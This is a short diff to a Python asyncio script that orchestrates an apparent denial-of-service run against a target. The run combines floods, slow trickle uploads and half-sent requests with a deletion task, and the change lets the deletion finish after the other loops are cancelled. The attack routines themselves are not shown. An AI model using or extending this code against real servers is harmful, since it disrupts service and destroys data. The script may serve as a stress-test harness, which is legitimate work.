@@ -182,7 +182,7 @@ def _floods(target: Target) -> dict[str, Callable[[], bytes]]:
 
 
 async def attack(target: Target) -> None:
-    """Start everything, and go on until SIGTERM."""
+    """Start everything, and go on until SIGTERM; the deletion ends by itself."""
     over = asyncio.Event()
     asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, over.set)
     await _make_keys(target)
@@ -191,13 +191,15 @@ async def attack(target: Target) -> None:
     loops += [_stream(target, next(keys)) for _ in range(STREAMS)]
     loops += [_trickle(target, next(keys)) for _ in range(UPLOADS)]
     loops += [_half_send(target) for _ in range(HALF_SENT)]
-    tasks = [asyncio.ensure_future(each) for each in (*loops, _delete(target))]
+    tasks = [asyncio.ensure_future(each) for each in loops]
+    deleting = asyncio.ensure_future(_delete(target))
     sys.stdout.write(f"{ATTACKING}\n")
     sys.stdout.flush()
     await over.wait()
     for task in tasks:
         task.cancel()
     await asyncio.gather(*tasks, return_exceptions=True)
+    await deleting  # its owner's other requests went first
 
 
 def main() -> None:
